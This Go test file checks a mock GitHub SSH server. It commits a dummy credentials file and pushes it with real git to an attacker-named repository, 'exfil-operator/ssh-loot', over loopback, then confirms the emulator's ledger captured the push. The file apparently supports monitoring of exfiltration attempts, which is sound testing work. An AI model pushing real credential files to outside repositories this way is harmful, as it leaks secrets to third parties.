package emulator

import (
	"context"
	"crypto/ed25519"
	"crypto/rand"
	"encoding/pem"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"golang.org/x/crypto/ssh"
)

// TestSSHGitPush pushes with the real git and OpenSSH client to the mock's
// SSH server on loopback (HostName and HostKeyAlias keep every byte on this
// machine), then clones back over SSH, and checks the ledger holds the
// pushed file.
func TestSSHGitPush(t *testing.T) {
	if _, err := exec.LookPath("ssh"); err != nil {
		t.Skip("the OpenSSH client (ssh) is not installed: apt-get install openssh-client")
	}
	e := newTestEmulator(t, Config{})
	srv, err := e.NewSSHServer("github.com")
	require.NoError(t, err)
	l, err := net.Listen("tcp", "127.0.0.1:0")
	require.NoError(t, err)
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan error, 1)
	go func() { done <- srv.Serve(ctx, l) }()
	t.Cleanup(func() { cancel(); assert.NoError(t, <-done) })

	dir := t.TempDir()
	_, priv, err := ed25519.GenerateKey(rand.Reader)
	require.NoError(t, err)
	block, err := ssh.MarshalPrivateKey(priv, "")
	require.NoError(t, err)
	keyFile, known := filepath.Join(dir, "id"), filepath.Join(dir, "known_hosts")
	require.NoError(t, os.WriteFile(keyFile, pem.EncodeToMemory(block), 0o600))
	require.NoError(t, os.WriteFile(known, []byte(srv.KnownHostsLine()+"\n"), 0o600))
	port := strconv.Itoa(l.Addr().(*net.TCPAddr).Port)
	sshCmd := strings.Join([]string{"ssh", "-F", "/dev/null", "-i", keyFile, "-o", "IdentitiesOnly=yes", "-o", "BatchMode=yes",
		"-o", "UserKnownHostsFile=" + known, "-o", "GlobalKnownHostsFile=/dev/null", "-o", "StrictHostKeyChecking=yes",
		"-o", "HostKeyAlias=github.com", "-o", "HostName=127.0.0.1", "-p", port}, " ")

	work := filepath.Join(dir, "work")
	require.NoError(t, os.Mkdir(work, 0o755))
	secret := []byte("pw=hunter2\n")
	require.NoError(t, os.WriteFile(filepath.Join(work, "creds.txt"), secret, 0o600))
	git := func(dir string, args ...string) string {
		t.Helper()
		cmd := exec.Command("git", args...)
		cmd.Dir = dir
		cmd.Env = append(os.Environ(), "GIT_SSH_COMMAND="+sshCmd, "GIT_CONFIG_GLOBAL=/dev/null", "GIT_CONFIG_NOSYSTEM=1",
			"GIT_AUTHOR_NAME=a", "GIT_AUTHOR_EMAIL=a@example.invalid", "GIT_COMMITTER_NAME=a", "GIT_COMMITTER_EMAIL=a@example.invalid")
		out, err := cmd.CombinedOutput()
		require.NoError(t, err, "git %v: %s", args, out)
		return string(out)
	}
	git(work, "init", "-q", "-b", "main")
	git(work, "add", "creds.txt")
	git(work, "commit", "-q", "-m", "backup")
	mark := len(e.Ledger().Entries())
	git(work, "push", "-q", "git@github.com:exfil-operator/ssh-loot.git", "HEAD:refs/heads/main")
	require.NoError(t, e.Quiesce(context.Background()))

	var push *Entry
	for _, en := range e.Ledger().Entries()[mark:] {
		if en.Method == "SSH" && strings.HasPrefix(en.Path, "git-receive-pack") {
			push = &en
		}
	}
	require.NotNil(t, push, "the push is in the ledger")
	assert.Equal(t, "github.com", push.Host)
	assert.Equal(t, 200, push.Status)
	assert.Equal(t, "publickey", push.AuthScheme)
	assert.Equal(t, "127.0.0.1", push.ClientIP)
	assert.Positive(t, push.BytesReceived)
	assert.Equal(t, []File{NewFile("creds.txt", secret)}, push.Files)
	assert.Contains(t, push.Note, "refs/heads/main")

	git(dir, "clone", "-q", "git@github.com:exfil-operator/ssh-loot.git", "back")
	got, err := os.ReadFile(filepath.Join(dir, "back", "creds.txt"))
	require.NoError(t, err)
	assert.Equal(t, secret, got)
}
